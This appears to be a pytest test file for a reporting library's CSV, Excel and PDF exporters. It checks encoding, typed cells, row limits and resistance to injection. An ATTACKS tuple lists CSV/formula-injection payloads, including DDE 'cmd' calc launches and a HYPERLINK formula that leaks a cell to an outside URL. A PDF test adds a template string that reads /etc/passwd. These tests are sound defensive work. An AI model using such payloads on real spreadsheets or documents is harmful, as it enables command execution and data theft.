"""Lists taken away: other programs open them and find the same rows, and no spreadsheet computes."""

import csv
import io
import tracemalloc
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal

import openpyxl
import pytest

from seawall.core.measure import Column
from seawall.core.text import LANGUAGES, Text
from seawall.reports import fonts, printed, sheet, workbook
from seawall.reports.sheet import Sheet, UnableToBearRows

_STATE = {"open": Text(en="open", zh="未结清")}
_COLUMNS = (
    Column("name", "label", Text(en="name", zh="名称")),
    Column("state", "label", Text(en="state", zh="状态"), _STATE),
    Column("on", "date", Text(en="day", zh="日期")),
    Column("at", "date", Text(en="time", zh="时间")),
    Column("balance", "money", Text(en="balance", zh="余额")),
    Column("share", "share", Text(en="share", zh="占比")),
    Column("n", "count", Text(en="number", zh="数量")),
    Column("late", "label", Text(en="late", zh="逾期")),
)
_AT = datetime(2026, 3, 1, 9, 30, tzinfo=timezone(timedelta(hours=8)))
_ROW = ("张三, Ltd", "open", date(2026, 2, 28), _AT, Decimal("12345.60"), 0.25, 7, True)
_NONE = (None,) * len(_COLUMNS)
_TITLE = Text(en="Loans [1/2]: all", zh="贷款：全部")
ATTACKS = (
    "=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1",
    '=HYPERLINK("http://example.org?x="&A1,"click")', "=cmd|'/c calc'!A0", "{=1+1}", "＠SUM(A1)",
)  # fmt: skip


def _sheet(*rows: tuple[object, ...]) -> Sheet:
    return Sheet(_TITLE, _COLUMNS, rows)


def _one(*values: object) -> Sheet:
    return Sheet(_TITLE, _COLUMNS[:1], [(value,) for value in values])


def _read_csv(what: Sheet) -> list[list[str]]:
    text = b"".join(sheet.csv(what, "en")).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def _workbook(what: Sheet, *, language: str = "en") -> openpyxl.Workbook:
    out = io.BytesIO()
    workbook.write(what, "zh" if language == "zh" else "en", out)
    return openpyxl.load_workbook(io.BytesIO(out.getvalue()))


def test_a_csv_begins_with_the_mark_by_which_excel_sees_utf_8() -> None:
    assert b"".join(sheet.csv(_sheet(_ROW), "zh")).startswith(
        b"\xef\xbb\xbf" + "名称,状态".encode()
    )


def test_a_csv_reads_again_as_it_was() -> None:
    assert _read_csv(_sheet(_ROW, _NONE))[1:] == [
        ["张三, Ltd", "open", "2026-02-28", "2026-03-01T01:30:00Z", "12345.60", "0.25", "7", "yes"],
        [""] * len(_COLUMNS),
    ]


def test_codes_and_truth_are_said_in_the_language_asked_for() -> None:
    row = b"".join(sheet.csv(_sheet(_ROW), "zh")).decode("utf-8-sig").splitlines()[1]
    assert "未结清" in row
    assert row.endswith("是")


def test_a_workbook_opens_again_with_typed_cells() -> None:
    page = _workbook(_sheet(_ROW, _NONE)).worksheets[0]
    at = _AT.astimezone(UTC).replace(tzinfo=None)
    assert [cell.value for cell in page[2]] == [
        "张三, Ltd", "open", datetime(2026, 2, 28), at, 12345.6, 0.25, 7, "yes",  # noqa: DTZ001
    ]  # fmt: skip
    assert [cell.number_format for cell in page[2]][4:7] == ["#,##0.00", "0.00%", "#,##0"]
    assert page.freeze_panes == "A2"
    assert all(cell.value is None for cell in page[3])


def test_a_workbook_says_what_it_holds_in_the_language_asked_for() -> None:
    book = _workbook(
        Sheet(_TITLE, _COLUMNS, (), Text(en="as of 1 May", zh="截至5月1日")), language="zh"
    )
    assert book.sheetnames == ["贷款：全部", "说明"]
    assert [row[0].value for row in book["说明"].iter_rows()] == ["贷款：全部", "截至5月1日"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_text_becomes_a_formula_in_a_workbook(attack: str) -> None:
    cell = _workbook(_one(attack)).worksheets[0]["A2"]
    assert cell.data_type == "s"
    assert cell.hyperlink is None
    assert cell.value.replace("_x000D_", "\r") == attack.replace("_x000D_", "\r")


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_text_begins_as_a_formula_in_a_csv(attack: str) -> None:
    [_, [text]] = _read_csv(_one(attack))
    assert text.removeprefix("'") == attack
    assert text[0] not in "=+-@\t\r\n＝＋－＠"


def test_an_attack_in_a_heading_is_marked_too() -> None:
    column = Column("x", "label", Text(en="=1+1", zh="=1+1"))
    assert _read_csv(Sheet(_TITLE, (column,), ())) == [["'=1+1"]]


def test_what_excel_cannot_hold_is_text_in_a_workbook_and_loses_nothing() -> None:
    odd = (Decimal("9999999999999999.99"), 2**60, float("inf"), date(1899, 12, 31), "x" * 40_000)
    page = _workbook(_one(*odd)).worksheets[0]
    cells = [row[0].value for row in page.iter_rows(min_row=2)]
    assert cells == ["9999999999999999.99", str(2**60), "inf", "1899-12-31", "x" * 32_767]


def test_no_form_cuts_a_list_it_bears_all_rows_or_says_what_to_do(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for module in (workbook, printed):
        monkeypatch.setattr(module, "ROWS_MOST", 2)
    forms: dict[str, Callable[[Sheet], object]] = {
        "XLSX": _workbook,
        "PDF": lambda told: printed.document(told, "en"),
    }
    for form, write in forms.items():
        assert write(_one(1, 2))
        with pytest.raises(UnableToBearRows) as refused:
            write(_one(1, 2, 3))
        for told in (refused.value.said.en, refused.value.said.zh):
            assert form in told
            assert "2" in told
            assert "CSV" in told
    assert len(_read_csv(_one(*range(20_000)))) == 20_001


def test_the_same_rows_give_the_same_workbook() -> None:
    first, second = io.BytesIO(), io.BytesIO()
    workbook.write(_sheet(_ROW), "en", first)
    workbook.write(_sheet(_ROW), "en", second)
    assert first.getvalue() == second.getvalue()


@pytest.mark.skipif(fonts.cjk_family() is None, reason="no font with Chinese")
@pytest.mark.parametrize("language", LANGUAGES)
def test_paper_takes_any_text(language: str) -> None:
    odd = (
        *ATTACKS,
        "#panic()",
        "$x",
        '] #read("/etc/passwd")',
        "\\",
        "\0",
        "1. a",
        "= b",
        "a\n\nb",
    )
    told = Sheet(_TITLE, _COLUMNS[:1], [(each,) for each in odd])
    assert printed.document(told, "zh" if language == "zh" else "en").startswith(b"%PDF")


def _many(n: int) -> Iterator[tuple[object, ...]]:
    return (_ROW for _ in range(n))


def test_memory_does_not_grow_with_the_rows() -> None:
    def peak(n: int) -> int:
        tracemalloc.start()
        for _ in sheet.csv(Sheet(_TITLE, _COLUMNS, _many(n)), "en"):
            pass
        workbook.write(Sheet(_TITLE, _COLUMNS, _many(n)), "en", io.BytesIO())
        most = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return most

    peak(10)
    assert peak(6_000) < peak(1_500) + 750_000
